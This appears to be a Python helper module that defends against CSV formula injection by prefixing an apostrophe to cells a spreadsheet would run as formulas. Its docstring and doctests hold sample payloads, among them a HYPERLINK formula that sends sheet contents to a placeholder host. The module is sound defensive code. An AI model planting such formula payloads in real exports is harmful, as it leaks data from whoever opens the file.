"""Cells a spreadsheet will not run: CSV formula injection neutralised in one place.

Why: investigators and liaisons open the CSVs this project writes (case evidence,
loader rejects, grade exports, console results) in Excel or WPS. A cell starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula there, so a
participant named ``=HYPERLINK("http://x/"&A1)`` in a source file could exfiltrate
the sheet or run a command (OWASP "CSV Injection"). Every CSV writer calls
:func:`inert` on each cell: such text gets a leading apostrophe, which spreadsheets
show as text and do not evaluate. Plain numbers (``-3``, ``+1.5``) are left alone, so
amounts stay numbers; the value itself is unchanged apart from the apostrophe.

The Neo4j bulk-import CSVs (graphsvc.exporters.neo4j_import) are machine input for
``neo4j-admin`` and keep their values byte for byte.
"""

from __future__ import annotations

import re

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def inert(value: object) -> str:
    """The cell as text a spreadsheet shows and never evaluates.

    >>> inert('=HYPERLINK("http://x")'), inert("@SUM(A1)"), inert("\\t=1")
    ('\\'=HYPERLINK("http://x")', "'@SUM(A1)", "'\\t=1")
    >>> inert(-3), inert("-12.50"), inert("+86 138"), inert("张三"), inert(None)
    ('-3', '-12.50', "'+86 138", '张三', '')
    """
    if value is None:
        return ""
    text = str(value)
    if text.startswith(FORMULA_PREFIXES) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text
